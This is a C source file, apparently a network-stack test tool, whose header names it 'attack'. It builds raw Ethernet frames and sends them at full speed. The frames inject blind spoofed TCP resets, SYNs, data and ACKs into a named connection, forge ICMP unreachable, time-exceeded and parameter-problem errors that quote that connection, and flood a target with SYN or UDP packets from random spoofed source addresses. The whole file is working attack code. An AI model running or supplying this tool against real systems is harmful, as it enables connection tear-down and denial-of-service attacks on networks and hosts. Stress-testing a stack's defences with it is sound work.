/* SPDX-License-Identifier: GPL-2.0 */
/*
 * attack DEVICE KIND COUNT SOURCE_MAC DESTINATION_MAC SOURCE DESTINATION SPORT DPORT
 *     sends so many frames by the device, as fast as it takes them. What its kind leaves open is random,
 *     32 bits each: nobody who sees no packet of a connection knows more.
 *
 *     rst, data, syn, ack  segments of the connection that is named, with random numbers; half of the
 *                          resets carry an acknowledgement
 *     mix                  one of the first two, or an ACK
 *     icmp                 errors about it, to DESTINATION, quoting what that would have sent
 *     syns, datagrams      to DESTINATION and DPORT from anywhere: SOURCE is not heeded
 * Prints how many, and how many in a second.
 */
#include <time.h>
#include "../../native/craft.h"

enum {
	ROUTER = 0x0a09004d,	/* 10.9.0.77 */
	QUOTE = IPV4 + 8,
	ICMP = 8,
};

struct target {
	uint32_t source;
	uint32_t destination;
	uint16_t sport;
	uint16_t dport;
};

static void craft_icmp(struct crafted *f, const struct target *t, uint64_t random)
{
	static const unsigned char kinds[][2] = {{3, 1}, {3, 3}, {3, 4}, {11, 0}, {12, 0}};
	unsigned char *ip = f->bytes + ETHERNET, *icmp = ip + IPV4, *quote = icmp + ICMP;
	const unsigned char *kind = kinds[random % 5];
	unsigned char tcp[TCP];
	struct segment s = {.sport = t->dport, .dport = t->sport, .seq = random >> 32};

	put_ipv4(ip, ROUTER, t->destination, IPPROTO_ICMP, ICMP + QUOTE);
	memset(icmp, 0, ICMP);
	icmp[0] = kind[0];
	icmp[1] = kind[1];
	put16(icmp + 6, kind[1] == 4 ? 600 : 0);
	put_ipv4(quote, t->destination, t->source, IPPROTO_TCP, TCP + 100);
	put_tcp_header(tcp, &s);
	memcpy(quote + IPV4, tcp, 8);
	put16(icmp + 2, checksum(sum_of(icmp, ICMP + QUOTE, 0)));
	f->length = ETHERNET + IPV4 + ICMP + QUOTE;
}

static void craft_segment(struct crafted *f, const struct target *t, const char *kind,
			  struct numbers *numbers)
{
	uint64_t random = next_number(numbers), choice = next_number(numbers);
	struct segment s = {
		.source = t->source,
		.destination = t->destination,
		.sport = t->sport,
		.dport = t->dport,
		.seq = random,
		.ack = random >> 32,
		.window = choice >> 8,
		.flags = ACK,
	};
	int which = strcmp(kind, "mix") == 0 ? choice % 3 : 3;

	if (which == 0 || strcmp(kind, "rst") == 0)
		s.flags = choice >> 32 & 1 ? RST : RST | ACK;
	if (strcmp(kind, "syn") == 0)
		s.flags = SYN;
	if (which == 1 || strcmp(kind, "data") == 0) {
		s.flags = PSH | ACK;
		s.data = 5;
	}
	if (!(s.flags & ACK))
		s.ack = 0;
	craft_tcp(f, &s);
}

static void craft_syn(struct crafted *f, const struct target *t, uint64_t random)
{
	struct segment s = {
		/* 11.0.0.0 to 126.255.255.255: sources that can be, and nobody here has. */
		.source = (11 + (random >> 24 & 0xff) % 116) << 24 | (random & 0xffffff),
		.destination = t->destination,
		.sport = random >> 32,
		.dport = t->dport,
		.seq = random >> 16,
		.window = 64240,
		.flags = SYN,
	};

	craft_tcp(f, &s);
}

static void craft_datagram(struct crafted *f, const struct target *t, uint64_t random)
{
	unsigned char *ip = f->bytes + ETHERNET, *udp = ip + IPV4;

	put_ipv4(ip, (11 + (random >> 24 & 0xff) % 116) << 24 | (random & 0xffffff), t->destination,
		 IPPROTO_UDP, UDP + 4);
	memset(udp, 0, UDP + 4);
	put16(udp, random >> 32);
	put16(udp + 2, t->dport);
	put16(udp + 4, UDP + 4);
	f->length = ETHERNET + IPV4 + UDP + 4;
}

static void craft(struct crafted *f, const struct target *t, const char *kind,
		  struct numbers *numbers)
{
	if (strcmp(kind, "icmp") == 0)
		craft_icmp(f, t, next_number(numbers));
	else if (strcmp(kind, "syns") == 0)
		craft_syn(f, t, next_number(numbers));
	else if (strcmp(kind, "datagrams") == 0)
		craft_datagram(f, t, next_number(numbers));
	else
		craft_segment(f, t, kind, numbers);
}

static double seconds(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec + now.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	static struct crafted frames[BATCH];
	unsigned char source[6], destination[6];
	struct numbers numbers;
	struct target target;
	long count, sent = 0;
	double began;
	int fd;

	if (argc != 10)
		return 1;
	fd = open_packet_socket(argv[1], 0, 0);
	count = strtol(argv[3], NULL, 10);
	read_mac(source, argv[4]);
	read_mac(destination, argv[5]);
	target.source = read_address(argv[6]);
	target.destination = read_address(argv[7]);
	target.sport = strtol(argv[8], NULL, 10);
	target.dport = strtol(argv[9], NULL, 10);
	seed_numbers(&numbers);
	for (int i = 0; i < BATCH; i++)
		craft_ethernet(&frames[i], source, destination);
	began = seconds();
	while (sent < count) {
		int batch = count - sent < BATCH ? count - sent : BATCH;

		for (int i = 0; i < batch; i++)
			craft(&frames[i], &target, argv[2], &numbers);
		send_all(fd, frames, batch);
		sent += batch;
	}
	printf("%ld %.0f\n", sent, sent / (seconds() - began));
	return 0;
}
